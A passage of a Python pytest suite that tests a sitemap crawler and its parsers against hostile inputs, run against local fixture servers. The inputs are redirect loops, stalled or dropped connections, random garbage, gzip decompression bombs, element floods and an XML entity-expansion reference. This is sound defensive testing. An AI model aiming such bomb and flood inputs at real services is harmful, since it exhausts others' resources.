    return outcome(node) + " after 20 hops"


@case("an endless redirect chain (/hop/0 -> /hop/1 -> ...)", check_redirect_chain)
def redirect_chain(env: CaseEnv) -> FixtureServer:
    routes: dict[str, RouteLike] = {f"/hop/{i}.xml": Route(redirect_to=f"/hop/{i + 1}.xml") for i in range(1000)}
    return hostile_site(env, routes, ["/hop/0.xml"])


def check_http_5xx(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/down.xml", "invalid", "HTTP 500")
    assert site.hits("/down.xml") == 3  # RetryMiddleware: 1 + RETRY_TIMES (2)
    expect(result, site, "/flaky.xml", "xml_urlset", None, pages=1)
    assert site.hits("/flaky.xml") == 2
    good_survives(result, site)
    return f"{outcome(node)} after 2 retries; a 503 once then 200: read"


@case("HTTP 500 on every try; a 503 that recovers (default RETRY_TIMES)", check_http_5xx)
def http_5xx(env: CaseEnv) -> FixtureServer:
    return hostile_site(
        env,
        {
            "/down.xml": Route("<html><body>oops</body></html>", status=500, content_type="text/html"),
            "/flaky.xml": Route(urlset("{base}/flaky/1"), fail_times=1),
        },
    )


def check_timeout(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/slow.xml", "invalid", "timeout")
    assert site.hits("/slow.xml") == 2  # 1 + RETRY_TIMES
    good_survives(result, site)
    return outcome(node)


@case("a server that never answers (DOWNLOAD_TIMEOUT=2, RETRY_TIMES=1)", check_timeout, settings=NET)
def timeout(env: CaseEnv) -> FixtureServer:
    return hostile_site(env, {"/slow.xml": Route(urlset("{base}/never"), delay=8)})


def check_refused(result: CrawlResult, site: FixtureServer) -> str:
    refused = [node for _, node in result.walk() if node["url"].endswith("/refused.xml")]
    assert [(node["kind"], node["error"]) for node in refused] == [("invalid", "connection refused")]
    good_survives(result, site)
    return outcome(refused[0])


@case("a sitemap on a port where nothing listens", check_refused, settings=NET)
def connection_refused(env: CaseEnv) -> FixtureServer:
    port = closed_port()
    return env.site(
        {
            "/robots.txt": robots(f"http://127.0.0.1:{port}/refused.xml", "{base}/good.xml"),
            "/good.xml": urlset(*(f"{{base}}{page}" for page in GOOD_PAGES)),
        }
    )


def check_trickle(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/trickle.xml", "invalid", "timeout")
    good_survives(result, site)
    return outcome(node)


@case("a server trickling its sitemap a byte every 0.2 s", check_trickle, settings=NET)
def trickle(env: CaseEnv) -> FixtureServer:
    return hostile_site(env, {"/trickle.xml": Route(urlset("{base}/t/1", "{base}/t/2"), trickle=(1, 0.2))})


def check_dropped(result: CrawlResult, site: FixtureServer) -> str:
    node = expect(result, site, "/drop.xml", "invalid", "connection error")
    # 1 + RETRY_TIMES tries; Twisted's connection pool may repeat a GET once on a dropped connection
    assert 2 <= site.hits("/drop.xml") <= 4
    good_survives(result, site)
    return outcome(node)


@case("a server closing the connection without answering", check_dropped, settings=NET)
def dropped_connection(env: CaseEnv) -> FixtureServer:
    return hostile_site(env, {"/drop.xml": Route(urlset("{base}/x"), drop_connection=True)})


def check_garbage(result: CrawlResult, site: FixtureServer) -> str:
    binary = expect(result, site, "/garbage.xml", "invalid", "not a sitemap")
    expect(result, site, "/garbage.txt", "invalid", "not a sitemap")
    markup = expect(result, site, "/garbage-markup.xml", "invalid", "parse error")
    good_survives(result, site)
    return f"bytes, text: {outcome(binary)}; markup: {outcome(markup)}"


@case("garbage: random bytes, random text, random markup", check_garbage)
def garbage(env: CaseEnv) -> FixtureServer:
    rng = random.Random(11)
    text = "".join(rng.choice("abc <>&;:/.\n\t") for _ in range(200_000))
    return hostile_site(
        env,
        {
            "/garbage.xml": Route(rng.randbytes(MiB)),
            "/garbage.txt": Route(text, content_type="text/plain"),
            "/garbage-markup.xml": Route(b"<" + rng.randbytes(64 * 1024)),
        },
    )


# -- running a case ------------------------------------------------------------------------------


@dataclass
class CaseRun:
    """A finished case: the crawl's result, its wall time and peak RSS (whole process tree)."""

    result: CrawlResult
    wall: float
    peak_rss_mb: float


def _process_tree(pid: int) -> list[int]:
    pids, todo = [], [pid]
    while todo:
        current = todo.pop()
        pids.append(current)
        with contextlib.suppress(OSError):
            for task in os.listdir(f"/proc/{current}/task"):
                with contextlib.suppress(OSError), open(f"/proc/{current}/task/{task}/children") as children:
                    todo.extend(int(child) for child in children.read().split())
    return pids


def _status_kb(pid: int, *fields: str) -> dict[str, int]:
    values: dict[str, int] = {}
    with contextlib.suppress(OSError), open(f"/proc/{pid}/status") as status:
        for line in status:
            name, _, rest = line.partition(":")
            if name in fields:
                values[name] = int(rest.split()[0])
    return values


def _cpu_seconds(pid: int) -> float:
    with contextlib.suppress(OSError, ValueError, IndexError), open(f"/proc/{pid}/stat") as stat:
        fields = stat.read().rpartition(")")[2].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")  # utime + stime
    return 0.0


def _pss_kb(pid: int) -> int | None:
    """Proportional set size: shared pages (a child forked from the crawl, before it runs
    its own program) are counted once across the tree, not once per process."""
    with contextlib.suppress(OSError, ValueError), open(f"/proc/{pid}/smaps_rollup") as rollup:
        for line in rollup:
            if line.startswith("Pss:"):
                return int(line.split()[1])
    return None


class RssSampler:
    """Peak memory of a process and its descendants: the sum over the tree of each
    process's PSS (its VmRSS where smaps_rollup can't be read), sampled every ``interval``
    seconds, or the largest high-water mark (VmHWM) of one process if that is more.
    Also the CPU time of every process of the tree, as last seen."""

    def __init__(self, pid: int, interval: float = 0.02) -> None:
        self.pid = pid
        self.interval = interval
        self.peak_kb = 0
        self._hwm: dict[int, int] = {}
        self._cpu: dict[int, float] = {}

    def sample(self) -> None:
        total = 0
        for pid in _process_tree(self.pid):
            status = _status_kb(pid, "VmRSS", "VmHWM")
            pss = _pss_kb(pid)
            total += status.get("VmRSS", 0) if pss is None else pss
            if "VmHWM" in status:
                self._hwm[pid] = max(self._hwm.get(pid, 0), status["VmHWM"])
            self._cpu[pid] = max(self._cpu.get(pid, 0.0), _cpu_seconds(pid))
        self.peak_kb = max(self.peak_kb, total)

    @property
    def cpu_seconds(self) -> float:
        """CPU time (user + system) of the tree's processes, as last sampled."""
        return sum(self._cpu.values())

    @property
    def peak_mb(self) -> float:
        """The larger of the sampled tree peak and the biggest single-process high-water mark."""
        return max(self.peak_kb, max(self._hwm.values(), default=0)) / 1024


def run_case(case: Case, env: CaseEnv, start: Callable[..., RunningCrawl]) -> tuple[CaseRun, FixtureServer]:
    """Build the case's site, crawl it with ``start`` (``crawl.start`` in tests, a
    ``start_crawl`` in the benchmark) while sampling memory, and return the run."""
    site = case.build(env)
    started = time.monotonic()
    running = start({"homepage": site.base, **case.args}, settings=case.settings)
    sampler = RssSampler(running.pid)
    deadline = started + case.timeout
    while running.running() and time.monotonic() < deadline:
        sampler.sample()
        time.sleep(sampler.interval)
    result = running.wait(max(1.0, deadline - time.monotonic()))
    return CaseRun(result, time.monotonic() - started, sampler.peak_mb), site


def _params() -> list[Any]:
    slow = pytest.mark.skipif(
        not os.environ.get("SITEMAP_CRAWL_SLOW_TESTS"),
        reason="minutes long: set SITEMAP_CRAWL_SLOW_TESTS=1 to run it (benchmarks/hostile.py always does)",
    )
    return [pytest.param(item, id=item.name, marks=[slow] if item.slow else []) for item in CASES]


@pytest.mark.parametrize("case", _params())
def test_hostile_case(case: Case, fixture_site: SiteFactory, crawl: CrawlRunner, tmp_path: Path) -> None:
    run, site = run_case(case, CaseEnv(fixture_site, tmp_path), crawl.start)
    run.result.assert_ok()
    case.check(run.result, site)
    assert site.errors == []
    if case.targeted:
        # Memory does not depend on the machine's load; time does, so it is only measured
        # (benchmarks/hostile.py), not asserted here.
        assert run.peak_rss_mb < RSS_TARGET_MB, f"{case.name}: peak RSS {run.peak_rss_mb:.0f} MB"


def test_download_maxsize_caps_downloads_and_warnsize_follows_the_cap(
    fixture_site: SiteFactory, crawl: CrawlRunner
) -> None:
    """DOWNLOAD_MAXSIZE below SITEMAP_CRAWL_MAX_SIZE caps what is downloaded (and inflated
    by Content-Encoding) and what a small .gz file inflates to, as Scrapy's SitemapSpider
    does; sitemap requests warn at their cap, not at DOWNLOAD_WARNSIZE (docs/limits-and-security.md)."""
    big = urlset(*(f"{{base}}/big/{i}" for i in range(BIG_PAGES)))  # about 6 MB
    medium = urlset(*(f"{{base}}/medium/{i}" for i in range(40_000)))  # about 2 MB
    site = fixture_site(
        {
            "/robots.txt": robots(*(f"{{base}}{p}" for p in ("/big.xml", "/big-ce.xml", "/big.xml.gz", "/medium.xml"))),
            "/big.xml": big,
            "/big-ce.xml": Route(big, gzip_encoding=True),
            "/big.xml.gz": Route(big, gzip_file=True),
            "/medium.xml": medium,
        }
    )
    settings = {**QUIET, "DOWNLOAD_MAXSIZE": 4 * MiB, "DOWNLOAD_WARNSIZE": MiB}
    result = crawl({"homepage": site.base, "use_known_paths": False}, settings=settings).assert_ok()
    expect(result, site, "/big.xml", "invalid", "size limit")
    expect(result, site, "/big-ce.xml", "invalid", "size limit")  # 200 KB on the wire, 6 MB inflated
    # 200 KB on the wire, 6 MB inflated: inflating stops at DOWNLOAD_MAXSIZE, the pages before it kept
    capped = expect(result, site, "/big.xml.gz", "xml_urlset", "size limit")
    assert 0.5 * BIG_PAGES < capped["page_count"] < BIG_PAGES
    expect(result, site, "/medium.xml", "xml_urlset", None, pages=40_000)
    assert "larger than download warn size" not in result.log
    assert "download warning size" not in result.log


def test_cases_have_unique_names() -> None:
    names = [item.name for item in CASES]
    assert len(names) == len(set(names))


# -- the pure parsers, on the same hostile inputs (fast, no crawl) ---------------------------------


BASE = "https://www.example.org"


def entries(body: bytes, **kwargs: Any) -> tuple[str, str | None, list[str]]:
    reader = SitemapReader(body, f"{BASE}/sitemap.xml", **kwargs)
    urls = [entry.url for entry in reader]
    return reader.kind, reader.error, urls


def test_parser_gzip_bomb_is_capped_and_streamed() -> None:
    started = time.monotonic()
    kind, error, urls = entries(xml_bomb(BASE), limits=Limits(max_size=8 * MiB))
    assert (kind, error, urls) == ("xml_urlset", "size limit", [f"{BASE}/bomb/first", f"{BASE}/bomb/same"])
    assert time.monotonic() - started < 10


def test_parser_bomb_of_zeros_or_garbage_is_invalid() -> None:
    assert entries(gzip_bomb(b"", b"\0", 64 * MiB), limits=Limits(max_size=4 * MiB))[:2] == ("invalid", "size limit")


def test_parser_more_than_three_gzip_layers_is_not_a_sitemap() -> None:
    body = urlset(f"{BASE}/a").encode()
    for _ in range(3):
        body = gzip.compress(body, mtime=0)
    assert entries(body) == ("xml_urlset", None, [f"{BASE}/a"])
    assert entries(gzip.compress(body, mtime=0))[:2] == ("invalid", "not a sitemap")


def test_parser_repeated_text_line_bomb_is_cheap() -> None:
    body = gzip_bomb(b"", f"{BASE}/same\n".encode(), 64 * MiB)
    started = time.monotonic()
    assert entries(body, limits=Limits(max_size=32 * MiB)) == ("text", "size limit", [f"{BASE}/same"])
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    ("inner", "error"),
    [
        ("<x>" * 1000 + "</x>" * 1000, "parse error: elements nested deeper than 256"),
        ("<loc>" + "a" * (11 * MiB) + "</loc>", "parse error: text node over 10 MB"),
    ],
    ids=["deep", "huge-text"],
)
def test_parser_keeps_the_entries_before_a_libxml2_limit(inner: str, error: str) -> None:
    # all in one small document: the entries before the problem were parsed in the same
    # feed as the problem itself
    body = urlset(f"{BASE}/1", f"{BASE}/2", {"loc": f"{BASE}/3", "extra": inner}, f"{BASE}/4").encode()
    assert entries(body) == ("xml_urlset", error, [f"{BASE}/1", f"{BASE}/2"])


FLOOD = "<x/>" * 150_000
"""More elements (600 KB of them) than an entry may hold (100,000): the parsers look every
1 MiB fed (``FREE_EVERY``), so an entry holds three of these to be caught."""


@pytest.mark.parametrize(
    ("where", "error", "pages"),
    [
        ("between", None, [f"{BASE}/1", f"{BASE}/2", f"{BASE}/3"]),
        ("inside", f"parse error: {ELEMENT_FLOOD}", [f"{BASE}/1"]),
        ("inside-other", None, [f"{BASE}/1", f"{BASE}/3"]),
        ("before", None, [f"{BASE}/1"]),
    ],
)
def test_parser_frees_or_stops_a_flood_of_other_elements(where: str, error: str | None, pages: list[str]) -> None:
    url = "<url><loc>{}/{}</loc></url>".format
    inner = {
        "between": url(BASE, 1) + url(BASE, 2) + FLOOD + url(BASE, 3),
        "before": FLOOD + url(BASE, 1),
        "inside": url(BASE, 1) + f"<url><loc>{BASE}/2</loc>{FLOOD * 3}</url>" + url(BASE, 3),
        "inside-other": url(BASE, 1) + f"<x>{FLOOD}</x>" + url(BASE, 3),
    }[where]
    body = f'<urlset xmlns="{SITEMAP_NS}">{inner}</urlset>'.encode()
    assert entries(body) == ("xml_urlset", error, pages)


@pytest.mark.parametrize(
    "inner",
    [
        # an element named like the root, between entries: not an entry (it gave a page)
        "<url><loc>{0}/1</loc></url><urlset><loc>{0}/nested</loc></urlset><url><loc>{0}/2</loc></url>",
        # inside an entry that ends in the next piece fed: its <loc> was freed with it (a page lost)
        "<url><loc>{0}/1</loc><my:urlset xmlns:my='urn:x'/>" + " " * 40_000 + "</url><url><loc>{0}/2</loc></url>",
    ],
    ids=["between", "inside"],
)
@pytest.mark.parametrize("before", ["", FLOOD], ids=["plain", "after-a-flood"])
def test_an_element_named_like_the_root_is_no_entry(inner: str, before: str) -> None:
    # (a flood before the first entry has the document read with the root's start reported)
    body = f'<urlset xmlns="{SITEMAP_NS}">{before}{inner.format(BASE)}</urlset>'.encode()
    assert entries(body) == ("xml_urlset", None, [f"{BASE}/1", f"{BASE}/2"])


def test_parser_in_recover_mode_frees_or_stops_a_flood_of_other_elements() -> None:
    # an unescaped "&" sends the document to recover mode, which has its own parser
    url = "<url><loc>{}/{}</loc></url>".format
    inner = url(BASE, "1?a&b") + FLOOD * 2 + f"<url><loc>{BASE}/2</loc>{FLOOD * 3}</url>" + url(BASE, 3)
    body = f'<urlset xmlns="{SITEMAP_NS}">{inner}</urlset>'.encode()
    assert entries(body) == ("xml_urlset", f"parse error: {ELEMENT_FLOOD}", [f"{BASE}/1?a&b"])


def test_parser_reads_on_past_an_unescaped_ampersand_in_a_long_sitemap() -> None:
    # libxml2 holds what follows "&b" unparsed (no element built), however long: the
    # count of elements fed must not stop it before recover mode reads every entry
    later = "".join(f"<url><loc>{BASE}/{n}</loc><lastmod>2024-01-01</lastmod></url>" for n in range(60_000))
    body = f'<urlset xmlns="{SITEMAP_NS}"><url><loc>{BASE}/a&b</loc></url>{later}</urlset>'.encode()
    kind, error, urls = entries(body)
    assert (kind, error, len(urls), urls[:2]) == ("xml_urlset", "parse error", 60_001, [f"{BASE}/a&b", f"{BASE}/0"])


def test_parser_memory_stays_bounded_in_a_flood_between_entries() -> None:
    # 5 million <x/> after and before an entry, and beside wrapped entries: libxml2 would
    # hold about 650 MB of them
    script = f"""
import resource
from sitemap_crawl.parsing import parse_sitemap
from sitemap_crawl.audit.scan import SitemapFacts, scan
flood = b"<x/>" * 5_000_000
entry = b"<url><loc>{BASE}/1</loc></url>"
pieces = (b"<x/>" * 7_000 + b"<b><url><loc>{BASE}/w%d</loc></url></b>" % n for n in range(700))
wrapped = b"<a>" + b"".join(pieces) + b"</a>"  # an entry in every piece fed
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
pages = entries = 0
for inner in (entry + flood, flood + entry, wrapped):
    body = b'<urlset xmlns="{SITEMAP_NS}">' + inner + b"</urlset>"
    pages += len(parse_sitemap(body, "{BASE}/sitemap.xml").pages)
    entries += len(list(scan(body, SitemapFacts())))
    del body
# the audit's scan keeps PIs; in recover mode (an undeclared prefix) it reads every element
for inner in (b"<?pi?>" * 2_000_000 + entry, b"<a><image:x/>" + b"<x/>" * 3_000_000 + b"</a>" + entry):
    body = b'<urlset xmlns="{SITEMAP_NS}">' + inner + b"</urlset>"
    entries += len(list(scan(body, SitemapFacts())))
    del body
body = b'<urlset xmlns="{SITEMAP_NS}">' + entry + b"</urlset>" + b"<!---->" * 3_000_000  # (the scan kept comments)
entries += len(list(scan(body, SitemapFacts())))
del body
grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
print(pages, entries, grown // 1024)
"""
    result = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, check=True)
    page_count, entry_count, grown_mb = map(int, result.stdout.split())
    assert (page_count, entry_count) == (702, 5)  # (the audit reads the root's children only)
    assert grown_mb < 150, f"grew by {grown_mb} MB"


def test_parser_recovers_past_a_huge_attribute() -> None:
    body = urlset(f"{BASE}/1", {"loc": f"{BASE}/2", "extra": f'<x a="{"a" * (11 * MiB)}"/>'}, f"{BASE}/3").encode()
    kind, error, urls = entries(body)
    assert (kind, urls[:1]) == ("xml_urlset", [f"{BASE}/1"])
    assert error is not None and error.startswith("parse error")


def test_parser_entities_are_never_expanded() -> None:
    body = (XML_DECL + f"<!DOCTYPE urlset [{LAUGHS}]>" + urlset(f"{BASE}/1").split("\n", 1)[1]).encode()
    body = body.replace(b"</urlset>", f"<url><loc>{BASE}/&lol9;</loc></url></urlset>".encode())
    started = time.monotonic()
    kind, error, urls = entries(body)
    assert time.monotonic() - started < 5  # milliseconds, really
    assert (kind, error, urls[:1]) == ("xml_urlset", "parse error: entity expansion", [f"{BASE}/1"])
    # recover mode may keep the entry with the reference as it is written, never expanded
    assert urls[1:] in ([], [f"{BASE}/&lol9;"])


def test_parser_an_index_is_capped_at_its_limit() -> None:
    body = sitemapindex(*(f"{BASE}/s{i}.xml" for i in range(120))).encode()
    kind, error, urls = entries(body, limits=Limits(max_index_children=100))
    assert (kind, error, len(urls)) == ("xml_index", "size limit", 100)


def test_parser_huge_robots_txt_is_streamed() -> None:
    body = b"User-agent: *\n" + b"Disallow: /x\n" * 2_000_000 + b"Sitemap: /s.xml\n"
    assert entries(body, is_robots=True) == ("robots_txt", None, [f"{BASE}/s.xml"])
    one_line = b"#" + b"y" * (8 * MiB) + b"\r\nSitemap: /s.xml"
    assert entries(one_line, is_robots=True) == ("robots_txt", None, [f"{BASE}/s.xml"])


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_parser_robots_txt_in_unicode_encodings(encoding: str) -> None:
    body = "User-agent: *\r\n# café\r\nSitemap: /a.xml\r\nSitemap: /b.xml".encode(encoding)
    assert entries(body, is_robots=True) == ("robots_txt", None, [f"{BASE}/a.xml", f"{BASE}/b.xml"])


def test_robots_lines_do_not_depend_on_chunking() -> None:
    text = "\ufeffa\r\nb\rc\n\nSitemap: é\r\n" + "z" * 50 + "\nend"
    for encoding in ("utf-8", "utf-16"):
        body = text.encode(encoding)
        expected = list(iter_robots_lines([body], 40))
        assert expected == ["a", "b", "c", "", "Sitemap: é", None, "end"]
        for size in (1, 2, 3, 5, 7):
            chunks = [body[i : i + size] for i in range(0, len(body), size)]
            assert list(iter_robots_lines(chunks, 40)) == expected


def test_parser_text_sitemap_of_garbage_is_not_a_sitemap() -> None:
    rng = random.Random(3)
    assert entries(rng.randbytes(MiB))[:2] == ("invalid", "not a sitemap")
    assert parse_sitemap(text_sitemap("x", "y").encode(), f"{BASE}/s.txt").kind == "invalid"
